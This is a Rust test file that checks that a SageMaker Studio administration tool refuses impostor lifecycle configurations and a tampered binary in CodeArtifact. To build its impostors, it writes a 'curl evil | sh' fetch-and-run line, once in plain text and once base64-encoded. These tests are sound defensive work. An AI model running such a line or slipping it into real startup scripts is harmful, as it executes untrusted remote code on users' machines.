//! What bears a name of ours and is not ours: a lifecycle configuration, a binary.

use crate::administrator::{Administrator, STUDIO, another_binary, shipped};
use serde_json::json;

#[test]
fn an_impostor_of_our_lifecycle_configuration_is_refused() {
    let administrator = Administrator::new();
    administrator.apply(&[]).success();
    let name = administrator.attached("JupyterLab");
    administrator.run(&["destroy", "--yes"]).success();
    let evil = json!({"StudioLifecycleConfigName": name, "StudioLifecycleConfigAppType": "JupyterLab",
        "StudioLifecycleConfigContent": "IyEvYmluL2Jhc2gKY3VybCBldmlsIHwgc2gK"});
    administrator
        .account
        .call("sagemaker", "create_studio_lifecycle_config", evil);
    let before = administrator.account.everything();
    for words in [&["plan"][..], &["apply", "--yes", "--replace"]] {
        let told = administrator
            .run(
                &[
                    words,
                    &["--studio-domain-id", STUDIO, "--binary", shipped()],
                ]
                .concat(),
            )
            .exit(1);
        let said = told.stdout.split_whitespace().collect::<Vec<_>>().join(" ");
        let refusal = format!(
            "x refuse lifecycle configuration {name}: it is there with another script than its name stands for: somebody made it again. Look at \
             who, in CloudTrail (CreateStudioLifecycleConfig), and delete it"
        );
        assert!(said.contains(&refusal), "{told}");
        administrator.account.assert_same(&before, &"");
    }
}

#[test]
fn an_impostor_that_waits_for_a_rollback_is_not_attached() {
    let administrator = Administrator::new();
    administrator.apply(&[]).success();
    let first = administrator.attached("JupyterLab");
    // Newer than the first, older than the second: what a look at names and dates alone would go back to.
    let script = format!("{}\ncurl evil | sh\n", administrator.script(&first));
    let encoded = administrator.home.write("script", script);
    let encoded = administrator
        .home
        .run(administrator.home.command("base64").arg("-w0").arg(encoded))
        .success();
    let evil = json!({"StudioLifecycleConfigName": "studio-mirror-jupyterlab-0123456789ab", "StudioLifecycleConfigAppType": "JupyterLab",
        "StudioLifecycleConfigContent": encoded.stdout.trim()});
    administrator
        .account
        .call("sagemaker", "create_studio_lifecycle_config", evil);
    let second = another_binary(&administrator.home, "second");
    administrator
        .apply(&["--binary", second.to_str().expect("text")])
        .success();
    administrator.run(&["rollback", "--yes"]).success();
    assert_eq!(administrator.attached("JupyterLab"), first);
}

#[test]
fn an_impostor_of_the_binary_is_refused_before_anything_is_made() {
    let administrator = Administrator::new();
    administrator.apply(&[]).success();
    let account = &administrator.account;
    let package = json!({"domain": "packages", "repository": "studio-mirror", "format": "generic", "namespace": "studio-mirror",
        "package": "studio-mirror"});
    let told = account.call("codeartifact", "list_package_versions", package.clone());
    let version = told["versions"][0]["version"].as_str().expect("a version");
    let mut deletion = package.clone();
    deletion["versions"] = json!([version]);
    account.call("codeartifact", "delete_package_versions", deletion);
    let mut evil = package;
    let sha256 = "4bf5122f344554c53bde2ebb8cd2b7e3d1600ad631c385a5d7cce23c7785459a";
    for (name, value) in [
        ("packageVersion", version),
        ("assetName", "studio-mirror-x86_64-linux-musl"),
        ("assetContent", "\u{1}"),
        ("assetSHA256", sha256),
    ] {
        evil[name] = json!(value);
    }
    account.call("codeartifact", "publish_package_version", evil);
    let told = administrator
        .run(&["publish", "--binary", shipped()])
        .exit(1);
    let error = format!(
        "error: the version {version} of studio-mirror in the repository studio-mirror has other bytes (SHA-256 {sha256}) than its name stands for\n"
    );
    assert!(
        told.stderr.starts_with(&error)
            && told.stderr.contains("\nhint: somebody published over it: "),
        "{told}"
    );
    let before = account.everything();
    for words in [&["plan"][..], &["apply", "--yes", "--internal", "acme-*"]] {
        let told = administrator
            .run(
                &[
                    words,
                    &["--studio-domain-id", STUDIO, "--binary", shipped()],
                ]
                .concat(),
            )
            .exit(1);
        let said = told.stdout.split_whitespace().collect::<Vec<_>>().join(" ");
        let refusal = format!(
            "x refuse the binary: the version {version} in the repository studio-mirror has other bytes (SHA-256 {sha256}) than its name \
             stands for: somebody published over it. Look at who, in CloudTrail (PublishPackageVersion, CopyPackageVersions), and delete that \
             version"
        );
        assert!(said.contains(&refusal), "{told}");
        account.assert_same(&before, &"");
    }
}
